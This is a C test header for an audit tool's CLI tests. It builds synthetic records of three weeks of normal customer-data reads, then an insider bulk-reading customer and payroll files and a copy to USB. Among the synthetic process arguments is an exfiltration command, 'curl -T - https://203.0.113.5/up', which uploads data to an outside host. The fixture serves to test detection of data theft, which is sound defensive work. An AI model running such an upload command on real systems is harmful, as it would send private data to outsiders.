/* SPDX-License-Identifier: GPL-2.0 */
/*
 * A story in records, for the CLI tests and the examples in
 * docs/collector.md: three weeks of ordinary work on customer data, then
 * one night of bulk reading and upload, and a hard link.
 *
 * Nineteen days from a Monday; weekends are quiet but for the database.
 *
 *  alice    DBA, psql, 40-60 MiB of customers a working day
 *  bob      support, python3, about 5 MiB a working day
 *  mallory  psql, 20 MiB a working day; on the last day at 23:10 sqlite3
 *           reads 300 customer files (1.2 GiB) and payroll, at 23:25 curl
 *           sends 900 MiB to 203.0.113.5:443
 *  eve      on the last day hard-links a customer file into her home and
 *           copies 15 MiB to a USB stick
 *  postgres the database server (no login), 2 GiB a day, day and night
 *  the sensor loses 42 records on cpu 1 at 23:15 of the last day
 */
#ifndef DAUDIT_TEST_SCENARIO_H
#define DAUDIT_TEST_SCENARIO_H

#include "synth.h"

#define SCENARIO_DAYS	19	/* day 18, the last, is a Friday */
#define MIB		(1024ULL * 1024)

static const struct who sc_alice = { 1000, 1000, 11, 3100, 31 * NS, "psql" };
static const struct who sc_bob = { 1001, 1001, 12, 3200, 32 * NS, "python3" };
static const struct who sc_mallory = { 1002, 1002, 13, 3300, 33 * NS, "psql" };
static const struct who sc_mallory_sq = { 1002, 1002, 13, 3301, 34 * NS, "sqlite3" };
static const struct who sc_mallory_curl = { 1002, 1002, 13, 3302, 35 * NS, "curl" };
static const struct who sc_eve = { 1003, 1003, 14, 3400, 36 * NS, "ln" };
static const struct who sc_eve_cp = { 1003, 1003, 14, 3401, 37 * NS, "cp" };
static const struct who sc_pg = { 110, DAUDIT_UID_UNSET, DAUDIT_SESSION_UNSET,
				  900, 1 * NS, "postgres" };

/* One day of @w reading @total bytes of @dataset in @n sessions from @hour. */
static inline void sc_reads(struct synth *s, uint64_t day0, const struct who *w,
			    const char *dataset, const char *dir,
			    unsigned int hour, unsigned int n, uint64_t total)
{
	unsigned int i;
	char path[128];

	for (i = 0; i < n; i++) {
		uint64_t t = day0 + hour * HOUR_NS + (uint64_t)i * 17 * 60 * NS;

		snprintf(path, sizeof(path), "%s/part-%02u.csv", dir, i % 12);
		synth_read1(s, i % 4, t, w, dataset, path, total / n);
	}
}

/* The whole story; day 0 starts at @base (a local Monday 00:00). */
static inline void scenario_build(struct synth *s, uint64_t base)
{
	uint64_t last = base + (SCENARIO_DAYS - 1) * DAY_NS, t;
	unsigned int d, i;
	char path[128];

	synth_process(s, 0, base, &sc_alice, "/usr/bin/psql", DAUDIT_PROC_SEEN);
	synth_process(s, 0, base, &sc_bob, "/usr/bin/python3.11", DAUDIT_PROC_SEEN);
	synth_process(s, 0, base, &sc_mallory, "/usr/bin/psql", DAUDIT_PROC_SEEN);
	synth_process(s, 0, base, &sc_pg, "/usr/lib/postgresql/15/bin/postgres",
		      DAUDIT_PROC_SEEN);
	for (d = 0; d < SCENARIO_DAYS; d++) {
		uint64_t day0 = base + d * DAY_NS;
		int weekday = d % 7 < 5;

		sc_reads(s, day0, &sc_pg, "customers", "/var/lib/postgresql/15/main/base",
			 0, 24, 2048 * MIB);
		if (!weekday)
			continue;
		sc_reads(s, day0, &sc_alice, "customers", "/data/customers/export",
			 9, 6, (40 + (d * 7) % 20) * MIB);
		sc_reads(s, day0, &sc_bob, "customers", "/data/customers/tickets",
			 10, 3, (4 + d % 3) * MIB);
		sc_reads(s, day0, &sc_mallory, "customers", "/data/customers/export",
			 11, 4, (18 + d % 5) * MIB);
	}
	/* The last night. */
	synth_process_cmd(s, 2, last + 23 * HOUR_NS, &sc_mallory_sq,
			  "/usr/bin/sqlite3", DAUDIT_PROC_SEEN,
			  SYNTH_ARGS("sqlite3\0-cmd\0.read /tmp/dump.sql"));
	for (i = 0; i < 300; i++) {
		t = last + 23 * HOUR_NS + 10 * 60 * NS + (uint64_t)i * NS;
		snprintf(path, sizeof(path), "/data/customers/accounts/%04u.json", i);
		synth_read1(s, 2 + i % 2, t, &sc_mallory_sq, "customers", path,
			    4 * MIB);
	}
	synth_read1(s, 2, last + 23 * HOUR_NS + 16 * 60 * NS, &sc_mallory_sq,
		    "payroll", "/data/payroll/2026.csv", 2 * MIB);
	synth_lost(s, 1, last + 23 * HOUR_NS + 15 * 60 * NS, 42, DAUDIT_REC_FILE_READ);
	synth_process_cmd(s, 3, last + 23 * HOUR_NS + 24 * 60 * NS,
			  &sc_mallory_curl, "/usr/bin/curl", DAUDIT_PROC_SEEN,
			  SYNTH_ARGS("curl\0-T\0-\0https://203.0.113.5/up"));
	synth_egress(s, 3, last + 23 * HOUR_NS + 25 * 60 * NS, &sc_mallory_curl,
		     "customers", DAUDIT_EGRESS_NET, 0, NULL, 900 * MIB);
	/* eve: a hard link, then a copy to USB. */
	synth_process(s, 0, last + 14 * HOUR_NS, &sc_eve, "/usr/bin/ln", DAUDIT_PROC_SEEN);
	synth_alert(s, 0, last + 14 * HOUR_NS, &sc_eve, "customers",
		    "/data/customers/export/part-01.csv", "/home/eve/notes.csv");
	synth_process(s, 0, last + 14 * HOUR_NS + 60 * NS, &sc_eve_cp, "/usr/bin/cp",
		      DAUDIT_PROC_SEEN);
	synth_read1(s, 0, last + 14 * HOUR_NS + 61 * NS, &sc_eve_cp, "customers",
		    "/data/customers/export/part-01.csv", 15 * MIB);
	synth_egress(s, 0, last + 14 * HOUR_NS + 62 * NS, &sc_eve_cp, "customers",
		     DAUDIT_EGRESS_FILE, 0, "/media/usb0/part-01.csv", 15 * MIB);
}

static inline void scenario_config(struct config *c)
{
	c->allow = calloc(1, sizeof(*c->allow));
	c->n_allow = 1;
	snprintf(c->allow[0].dataset, sizeof(c->allow[0].dataset), "customers");
	c->allow[0].n = 3;
	c->allow[0].exes = calloc(3, sizeof(char *));
	c->allow[0].exes[0] = strdup("/usr/lib/postgresql/*/bin/postgres");
	c->allow[0].exes[1] = strdup("/usr/bin/psql");
	c->allow[0].exes[2] = strdup("/usr/bin/python3*");
}

/* Names as NSS would give them on the machine the story happened on. */
#define SCENARIO_NAMES "INSERT OR REPLACE INTO names (uid, name, seen_ns) VALUES" \
	" (1000, 'alice', 1), (1001, 'bob', 1), (1002, 'mallory', 1)," \
	" (1003, 'eve', 1), (110, 'postgres', 1)"

/* Build the story told by @build into a new database at @path. */
static inline void scenario_db_of(const char *path, uint64_t base,
				  void (*build)(struct synth *s, uint64_t base),
				  const char *names)
{
	struct synth s;

	synth_init(&s);
	build(&s, base);
	test_db_build(path, &s, 0x5ce4a210, scenario_config, names);
	synth_free(&s);
}

/* Build the story into a new database at @path. */
static inline void scenario_db(const char *path, uint64_t base)
{
	scenario_db_of(path, base, scenario_build, SCENARIO_NAMES);
}

#endif
